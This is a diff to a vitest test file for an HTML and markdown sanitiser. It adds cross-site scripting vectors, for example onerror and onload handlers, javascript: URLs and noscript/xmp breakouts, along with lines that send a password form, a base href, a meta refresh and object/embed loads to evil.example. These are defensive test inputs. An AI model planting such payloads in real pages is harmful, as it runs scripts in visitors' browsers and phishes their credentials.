@@ -1,6 +1,9 @@
 import { Parser } from 'htmlparser2'
+import { marked } from 'marked'
 import { describe, expect, it } from 'vitest'
-import { build } from '../pipeline'
+import { parseHtml } from '../dom/parse-html'
+import { htmlToMarkdown } from '../html-to-markdown/html-to-markdown'
+import { runPipeline } from '../pipeline'
 import { sanitize } from './sanitize'
 
 /** Known ways to run a script through a sanitiser (OWASP, PortSwigger, html5sec, advisories of sanitisers). */
@@ -137,6 +140,18 @@ const vectors = [
   '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
   '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x',
   '<aside markdown="1" onclick="alert(1)">**x** <script>alert(1)</script></aside>',
+  '[x](<java\nscript:alert(1)>)',
+  '![x](data:image/svg+xml;base64,PHN2Zy8+)',
+  '<svg onload=alert(1)><script>alert(1)</script></svg>',
+  '<style>body{background:url(javascript:alert(1))}</style>',
+  '<form action="https://evil.example"><input name=password><button>x</button></form>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
+  '`<script>alert(1)</script>`\n\n```html\n<script>alert(1)</script>\n```',
+  '<noscript>&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;</noscript>',
+  '<iframe>&lt;/iframe&gt;&lt;script&gt;alert(1)&lt;/script&gt;</iframe>',
+  '<xmp>&lt;/xmp&gt;&lt;script&gt;alert(1)&lt;/script&gt;</xmp>',
 ]
 
 const ELEMENTS =
@@ -173,14 +188,17 @@ describe('what readers get', () => {
   it.each(vectors)('runs nothing of %j', (vector) => {
     expect(dangersIn(sanitize(vector).html)).toEqual([])
     for (const format of ['html', 'markdown', 'text'] as const) {
-      expect(dangersIn(build(vector, { ...options, format }).html)).toEqual([])
-      expect(dangersIn(build(`<div><p>${vector}</p></div>`, { ...options, format }).html)).toEqual([])
+      for (const source of [vector, `<div><p>${vector}</p></div>`]) {
+        const { html } = runPipeline(source, { ...options, format })
+        expect(dangersIn(html)).toEqual([])
+        expect(dangersIn(marked.parse(htmlToMarkdown(parseHtml(html)), { async: false }))).toEqual([])
+      }
     }
   })
 
   it('runs nothing of all vectors one after the other', () => {
-    expect(dangersIn(build(vectors.join('\n\n'), { ...options, format: 'markdown' }).html)).toEqual([])
-    expect(dangersIn(build(vectors.join(''), { ...options, format: 'html' }).html)).toEqual([])
+    expect(dangersIn(runPipeline(vectors.join('\n\n'), { ...options, format: 'markdown' }).html)).toEqual([])
+    expect(dangersIn(runPipeline(vectors.join(''), { ...options, format: 'html' }).html)).toEqual([])
   })
 
   it('stays the same when it is sanitised again', () => {
